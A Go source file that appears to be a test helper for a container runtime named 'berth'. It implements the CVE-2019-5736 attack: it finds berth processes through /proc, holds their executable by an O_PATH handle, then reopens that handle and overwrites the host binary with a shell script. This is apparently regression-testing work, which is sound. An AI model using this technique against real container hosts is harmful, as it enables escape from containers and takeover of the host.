package main

// overwrite-exe is CVE-2019-5736 as a hostile container tries it: catch a
// berth process while it runs inside the container (a `berth exec`'s
// process before it execs the command, or a container's init), hold its
// /proc/<pid>/exe, and once berth is gone (nothing runs the file any more,
// so the kernel no longer refuses writing it) reopen that handle for
// writing and overwrite berth's binary on the host.

import (
	"errors"
	"fmt"
	"os"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

func init() { register("overwrite-exe", overwriteExe) }

// overwriteExe OUT SECONDS: report to the file OUT, one line per event
// ("denied", "held", then one "result:" line), giving up after SECONDS.
// It writes to a file, not stdout: stdout is a pipe to the shim, which the
// test kills.
func overwriteExe(args []string) error {
	if len(args) != 2 {
		return errors.New("usage: overwrite-exe OUT SECONDS")
	}
	secs, err := strconv.Atoi(args[1])
	if err != nil {
		return fmt.Errorf("seconds: %w", err)
	}
	out, err := os.OpenFile(args[0], os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0o644)
	if err != nil {
		return err
	}
	defer func() { _ = out.Close() }()
	say := func(format string, a ...any) { fmt.Fprintf(out, format+"\n", a...) }
	say("ready")
	deadline := time.Now().Add(time.Duration(secs) * time.Second)

	fd, pid := -1, 0
	denied := map[int]bool{}
	for fd < 0 {
		if time.Now().After(deadline) {
			say("result: no berth process held")
			return nil
		}
		fd, pid = grabBerthExe(func(pid int, err error) {
			if !denied[pid] {
				denied[pid] = true
				say("denied pid=%d: %v", pid, err)
			}
		})
	}
	target, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
	say("held pid=%d exe=%s", pid, target)

	// The handle is O_PATH: reopening it through /proc/self/fd is what
	// turns it into a writable file. While berth still runs the file the
	// kernel answers ETXTBSY: keep trying until it stops.
	for {
		w, err := os.OpenFile("/proc/self/fd/"+strconv.Itoa(fd), os.O_WRONLY, 0)
		if err == nil {
			_, werr := w.WriteAt([]byte("#!/bin/sh\necho overwritten by a container\n"), 0)
			_ = w.Close()
			if werr != nil {
				say("result: write refused: %v", werr)
			} else {
				say("result: overwrote the binary")
			}
			return nil
		}
		if !errors.Is(err, syscall.ETXTBSY) {
			say("result: reopen refused: %v", err)
			return nil
		}
		if time.Now().After(deadline) {
			say("result: reopen refused: still busy: %v", err)
			return nil
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// grabBerthExe looks once at every process in sight for berth (argv[0]
// berth-nsenter or berth-init) and opens its /proc/<pid>/exe. It returns
// the descriptor and pid of one it holds, or -1; refusals go to denied.
func grabBerthExe(denied func(pid int, err error)) (int, int) {
	entries, err := os.ReadDir("/proc")
	if err != nil {
		return -1, 0
	}
	self := os.Getpid()
	for _, e := range entries {
		pid, err := strconv.Atoi(e.Name())
		if err != nil || pid == self || !isBerth(pid) {
			continue
		}
		fd, err := unix.Open("/proc/"+e.Name()+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
		if err != nil {
			if !errors.Is(err, syscall.ENOENT) && !errors.Is(err, syscall.ESRCH) {
				denied(pid, err)
			}
			continue
		}
		// Still berth after the open: the handle is berth's binary, not
		// the command it exec'd meanwhile.
		if isBerth(pid) {
			return fd, pid
		}
		_ = syscall.Close(fd)
	}
	return -1, 0
}

// isBerth reports whether pid's argv[0] is one of berth's re-exec names.
func isBerth(pid int) bool {
	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/cmdline")
	if err != nil {
		return false
	}
	argv0, _, _ := strings.Cut(string(b), "\x00")
	return argv0 == "berth-nsenter" || argv0 == "berth-init"
}
